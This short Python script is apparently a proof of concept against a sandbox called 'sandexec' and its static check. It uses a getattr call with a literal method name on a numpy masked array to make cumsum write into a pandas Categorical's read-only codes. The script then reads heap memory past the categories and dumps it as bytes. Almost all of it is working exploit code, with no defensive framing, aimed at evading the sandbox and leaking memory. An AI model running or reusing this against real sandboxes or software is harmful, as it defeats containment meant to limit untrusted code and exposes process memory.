# source: sandexec README, "The static check", "numpy's running totals with an output ... numpy 1.24 writes them into arrays flagged read-only"; numpy MaskedArray/ndarray.cumsum(axis, dtype, out); pandas Categorical.codes / take_nd unchecked codes
# family: getattr literal name on another array type (numpy.ma MaskedArray.cumsum with out=)
# goal: getattr(masked, "cumsum", None)(0, None, codes) writes a Categorical's read-only codes: heap read out of bounds

import numpy as np
import pandas as pd
c = pd.Categorical([1, 2, 1, 2], categories=[1, 2])
k = c.codes
src = np.ma.masked_array(np.array([0, 40, 20, 60], dtype=np.int8))
f = getattr(src, "cumsum", None)
f(0, None, k)
print("codes now", k)
vals = np.asarray(c)
print("read past the categories:", vals)
print("as bytes:", vals[1:].tobytes())
